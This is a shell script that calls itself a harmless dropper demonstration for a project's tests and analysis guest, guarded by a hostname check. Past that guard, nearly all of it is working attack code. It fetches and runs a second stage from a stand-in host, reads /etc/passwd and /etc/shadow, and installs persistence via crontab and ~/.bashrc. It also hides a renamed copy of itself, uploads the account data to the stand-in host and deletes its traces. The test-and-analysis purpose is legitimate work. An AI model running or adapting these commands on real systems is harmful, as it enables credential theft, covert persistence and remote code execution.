#!/bin/sh
# A harmless show of what a dropper does; made for this project's tests and for a first look at a report.
# It fetches and runs a second stage, drops a file and deletes it, starts children, installs itself in the crontab
# and in ~/.bashrc, reads the account files, hides a renamed copy of itself, and deletes itself.
# Every step that would touch a real system runs only in the project's guest, told by its host name; anywhere else
# it says so and ends. Nothing it fetches or writes does any harm in the guest either.
if [ "$(hostname)" != ws-alice ]; then
  echo 'This is a demonstration for an analysis guest; it does nothing here.' >&2
  exit 0
fi
host=update.example-cdn.test
agent='Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; dropper-demo)'
mkdir -p /tmp/.x
cd /tmp/.x || exit 1

# The second stage, from the network; a stand-in when the network gives nothing that runs.
curl -s -m 10 -A "$agent" -o stage "http://$host/gate/stage2?id=$(id -u)" ||
  wget -q -T 10 -t 1 -U "$agent" -O stage "http://$host/gate/stage2"
head -c 2 stage 2>/dev/null | grep -q '#!' || printf '#!/bin/sh\necho stage two on $(uname -n)\n' >stage
chmod 755 stage
./stage

# Looking around.
cat /etc/passwd >accounts.txt
cat /etc/shadow >>accounts.txt 2>/dev/null
uname -a >>accounts.txt

# Children.
python3 -c 'import os; open("/tmp/.x/py.out", "w").write("child %d\n" % os.getpid())'
perl -e 'open(my $f, ">", "/tmp/.x/pl.out"); print $f "child $$\n"; close $f'

# Staying.
(crontab -l 2>/dev/null; echo '*/5 * * * * /var/tmp/.cache-update >/dev/null 2>&1') | crontab -
echo '/var/tmp/.cache-update >/dev/null 2>&1 &' >>"$HOME/.bashrc"
cp "$0" /tmp/.x/copy
mv /tmp/.x/copy /var/tmp/.cache-update
chmod 755 /var/tmp/.cache-update

# Sending home, and leaving no trace.
curl -s -m 10 -A "$agent" --data-binary @accounts.txt "http://$host/gate/report" >/dev/null
rm -f accounts.txt stage py.out
rm -f "$0"
